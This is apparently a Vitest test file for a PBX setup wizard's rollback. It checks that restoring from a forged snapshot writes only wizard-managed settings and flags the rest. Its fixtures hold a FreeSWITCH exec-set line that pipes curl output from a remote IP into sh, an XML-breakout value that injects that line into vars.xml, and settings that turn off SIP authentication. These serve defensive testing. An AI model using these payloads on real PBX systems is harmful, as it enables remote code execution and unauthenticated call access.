/**
 * Issue 21 item 1 on the PBX: a rollback restores only what the wizard manages (managed.ts),
 * whatever its snapshot holds; the rest is listed as flags, never sent. Plain data: the stock
 * FS PBX fixture, and snapshots edited as a forged bundle would hold them.
 */
import { describe, expect, it } from 'vitest';
import { applyPbxChanges } from '../../../electron/pbx/plan/apply-rows';
import { isManagedRow, MANAGED_SETTINGS, MANAGED_VARS, outsideManaged } from '../../../electron/pbx/plan/managed';
import { planPbx } from '../../../electron/pbx/plan/plan';
import { planPbxRestore } from '../../../electron/pbx/restore/restore';
import type { PbxState, SettingRow, VarRow } from '../../../electron/pbx/model/state';
import { PROFILE, stockPbx } from './fixtures/stock';

const EXEC_LINE = '<X-PRE-PROCESS cmd="exec-set" data="pwned=curl -s http://198.51.100.9/x | sh" />';

function setting(name: string, value: string, uuid: string): SettingRow {
  return {
    sip_profile_setting_uuid: uuid,
    sip_profile_uuid: PROFILE.internal,
    sip_profile_setting_name: name,
    sip_profile_setting_value: value,
    sip_profile_setting_enabled: 'true',
    sip_profile_setting_description: null,
  };
}

function execVar(uuid: string): VarRow {
  return {
    var_uuid: uuid,
    var_category: 'Exec-Set',
    var_name: 'pwned',
    var_value: 'curl -s http://198.51.100.9/x | sh',
    var_command: 'exec-set',
    var_hostname: null,
    var_enabled: 'true',
    var_order: '0',
    var_description: null,
  };
}

/** The forged snapshot: auth-calls=false, accept-blind-reg=true added, an Exec-Set var, a hostile vars.xml. */
function forged(pbx: PbxState): PbxState {
  const snapshot = structuredClone(pbx);
  const auth = snapshot.settings.find(
    (r) => r.sip_profile_uuid === PROFILE.internal && r.sip_profile_setting_name === 'auth-calls',
  );
  if (auth) auth.sip_profile_setting_value = 'false';
  else snapshot.settings.push(setting('auth-calls', 'false', 'd0000000-0000-4000-8000-000000000001'));
  snapshot.settings.push(setting('accept-blind-reg', 'true', 'd0000000-0000-4000-8000-000000000002'));
  snapshot.vars.push(execVar('d0000000-0000-4000-8000-000000000003'));
  snapshot.vars = snapshot.vars.map((v) =>
    v.var_name === 'default_country' ? { ...v, var_value: 'US" />\n' + EXEC_LINE + '<!-- ' } : v,
  );
  snapshot.varsXml = `${snapshot.varsXml}${EXEC_LINE}\n`;
  return snapshot;
}

describe('what the wizard manages on the PBX', () => {
  it('is the planner’s settings, NAT variables and media field: every planned change is inside it', () => {
    expect(MANAGED_SETTINGS).toEqual(['aggressive-nat-detection', 'apply-nat-acl']);
    expect(MANAGED_VARS).toEqual(['external_rtp_ip', 'external_sip_ip']);
    const state = stockPbx();
    state.settings = state.settings.filter((r) => r.sip_profile_setting_name !== 'aggressive-nat-detection');
    const result = planPbx(state, { publicIp: '203.0.113.2', mediaMode: 'proxy', extensions: [] });
    if (!result.ok) throw new Error(result.errors[0]!.message);
    expect(result.plan.changes.map((c) => c.path).sort()).toEqual(
      expect.arrayContaining(['v_sip_profile_settings', 'v_vars', 'v_extensions']),
    );
    expect(result.plan.changes.map((c) => outsideManaged(c, state))).toEqual(result.plan.changes.map(() => undefined));
  });

  it('does not take an Exec-Set row, a NAT variable asking for exec-set, or an auth setting for its own', () => {
    const state = stockPbx();
    expect(isManagedRow('v_vars', execVar('x'), state)).toBe(false);
    const rtp = state.vars.find((v) => v.var_name === 'external_rtp_ip')!;
    expect(isManagedRow('v_vars', rtp, state)).toBe(true);
    expect(isManagedRow('v_vars', { ...rtp, var_category: 'Exec-Set' }, state)).toBe(false);
    expect(isManagedRow('v_vars', { ...rtp, var_command: 'exec-set' }, state)).toBe(false);
    expect(isManagedRow('v_sip_profile_settings', setting('auth-calls', 'false', 'y'), state)).toBe(false);
    const onExternal = { ...setting('apply-nat-acl', 'nat.auto', 'z'), sip_profile_uuid: PROFILE.external };
    expect(isManagedRow('v_sip_profile_settings', onExternal, state)).toBe(false);
  });

  it('refuses a plan that would write outside it (a NAT variable whose row asks for exec-set)', () => {
    const state = stockPbx();
    state.vars = state.vars.map((v) => (v.var_name === 'external_rtp_ip' ? { ...v, var_command: 'exec-set' } : v));
    const result = planPbx(state, { publicIp: '203.0.113.2', mediaMode: 'leave', extensions: [] });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors[0]!.message).toMatch(/not one the wizard manages/);
  });
});

describe('a rollback from a forged PBX snapshot', () => {
  it('sends none of auth-calls=false, accept-blind-reg=true, the Exec-Set var or the edited variable, and lists them', () => {
    const pbx = stockPbx();
    const restore = planPbxRestore(forged(pbx), pbx);
    expect(restore.changes).toEqual([]);
    // vars.xml: the PBX's own file stays; nothing to write.
    expect(restore.steps).toEqual([]);
    const flags = restore.flags ?? [];
    expect(flags.every((f) => !f.restored)).toBe(true);
    const about = (word: string) => flags.find((f) => f.subject.includes(word));
    expect(about('auth-calls')).toMatchObject({ serious: true, change: 'a row the PBX does not have now' });
    expect(about('auth-calls')!.consequence).toMatch(
      /^Not restored: not managed by the wizard\. .*without asking for a password/,
    );
    expect(about('accept-blind-reg')).toMatchObject({ serious: true });
    expect(about('accept-blind-reg')!.consequence).toMatch(/register without a password/);
    expect(about('pwned')).toMatchObject({ serious: true });
    expect(about('pwned')!.consequence).toMatch(/shell command/);
    expect(about('default_country')).toMatchObject({ serious: false, restored: false });
    expect(about('vars.xml')).toMatchObject({ serious: true, restored: false });
  });

  it('still restores the wizard’s own changes beside the forged ones, and writes no exec-set line', () => {
    const before = stockPbx();
    const result = planPbx(before, { publicIp: '203.0.113.2', mediaMode: 'proxy', extensions: [] });
    if (!result.ok) throw new Error('refused');
    const now = applyPbxChanges(before, result.plan.changes);
    const write = result.plan.steps.find((s) => s.kind === 'write-file');
    now.varsXml = write?.kind === 'write-file' ? write.content : now.varsXml;
    const restore = planPbxRestore(forged(before), now);
    const back = applyPbxChanges(now, restore.changes);
    expect(back.vars.find((v) => v.var_name === 'external_rtp_ip')?.var_value).toBe('$${local_ip_v4}');
    expect(back.extensions).toEqual(before.extensions);
    expect(back.settings).toEqual(now.settings);
    expect(back.vars.some((v) => v.var_name === 'pwned')).toBe(false);
    const written = restore.steps.find((s) => s.kind === 'write-file');
    expect(written?.kind === 'write-file' && written.content).toBe(before.varsXml);
    expect(JSON.stringify(restore)).not.toMatch(/cmd=\\"exec-set/);
  });

  it('does not restore a NAT variable whose snapshot value would break out of vars.xml', () => {
    const pbx = stockPbx();
    const snapshot = structuredClone(pbx);
    snapshot.vars = snapshot.vars.map((v) =>
      v.var_name === 'external_rtp_ip' ? { ...v, var_value: `1.2.3.4" />${EXEC_LINE}<!--` } : v,
    );
    const restore = planPbxRestore(snapshot, pbx);
    expect(restore.changes).toEqual([]);
    expect(restore.flags?.map((f) => f.subject)).toEqual(['v_vars "external_rtp_ip"']);
  });

  it('leaves a never-managed row injected earlier in place, saying so first: it is not the wizard’s to delete', () => {
    // What an earlier forged rollback left behind: the row and its line in vars.xml.
    const snapshot = stockPbx();
    const now = structuredClone(snapshot);
    now.vars.push(execVar('d0000000-0000-4000-8000-000000000009'));
    now.varsXml = `${now.varsXml}\n<!-- Exec-Set -->\n${EXEC_LINE}\n`;
    const restore = planPbxRestore(snapshot, now);
    expect(restore.changes).toEqual([]);
    expect(restore.warnings.map((w) => w.code)).toContain('foreign-row-kept');
    expect(restore.flags).toEqual([
      expect.objectContaining({
        subject: expect.stringContaining('pwned'),
        change: 'added after the snapshot; left in place',
        serious: true,
        restored: false,
      }),
    ]);
    expect(restore.flags![0]!.consequence).toMatch(/shell command.*remove it in FS PBX \(Advanced › Variables\)/);
  });
});

describe("the snapshot's vars.xml", () => {
  const own = '<X-PRE-PROCESS cmd="exec-set" data="host=hostname" />';
  function pbxNow(): PbxState {
    const state = stockPbx();
    state.varsXml = `${state.varsXml}${own}\n`;
    return state;
  }
  /** The file as FS PBX's install template writes it: a wrapper, tabs, the same lines. */
  const template = (state: PbxState, extra: string[] = [], drop = '') =>
    [
      '<include>',
      ...state
        .varsXml!.split('\n')
        .filter((l) => l.includes('X-PRE-PROCESS') && l !== drop)
        .map((l) => `\t${l}`),
      ...extra,
      '</include>',
      '',
    ].join('\n');

  it('is written back byte for byte when it says nothing the PBX does not (other layout, the wizard’s lines)', () => {
    const now = pbxNow();
    const snapshot = structuredClone(now);
    snapshot.varsXml = template(now);
    const restore = planPbxRestore(snapshot, now);
    const write = restore.steps.find((s) => s.kind === 'write-file');
    expect(write?.kind === 'write-file' && write.content).toBe(snapshot.varsXml);
  });

  it('is not written when it adds a command line, or drops the PBX’s own', () => {
    const now = pbxNow();
    for (const varsXml of [template(now, [`\t${EXEC_LINE}`]), template(now, [], own)]) {
      const snapshot = { ...structuredClone(now), varsXml };
      const restore = planPbxRestore(snapshot, now);
      const write = restore.steps.find((s) => s.kind === 'write-file');
      expect(write === undefined || (write.kind === 'write-file' && write.content === now.varsXml)).toBe(true);
    }
    const flagged = planPbxRestore({ ...structuredClone(now), varsXml: template(now, [`\t${EXEC_LINE}`]) }, now);
    expect(flagged.flags).toEqual([
      expect.objectContaining({ subject: '/etc/freeswitch/vars.xml', serious: true, restored: false }),
    ]);
  });
});

describe('vars.xml keeps the PBX’s own command lines as the PBX wrote them', () => {
  it('writes back an exec-set line written with other spacing, byte for byte, and adds none', () => {
    const state = stockPbx();
    const own = '<X-PRE-PROCESS cmd="exec-set" data="host=hostname"/>';
    state.varsXml = `${state.varsXml}\t${own}\n`;
    state.vars.push({ ...execVar('d0000000-0000-4000-8000-0000000000ee'), var_name: 'host', var_value: 'hostname' });
    state.vars.push(execVar('d0000000-0000-4000-8000-0000000000ef'));
    const result = planPbx(state, { publicIp: '203.0.113.2', mediaMode: 'leave', extensions: [] });
    if (!result.ok) throw new Error(result.errors[0]!.message);
    const write = result.plan.steps.find((s) => s.kind === 'write-file');
    const content = write?.kind === 'write-file' ? write.content : '';
    expect(content.split('\n')).toContain(own);
    expect(content).not.toContain('pwned');
    expect(result.plan.warnings.map((w) => w.code)).toContain('vars-command-left-out');
  });
});
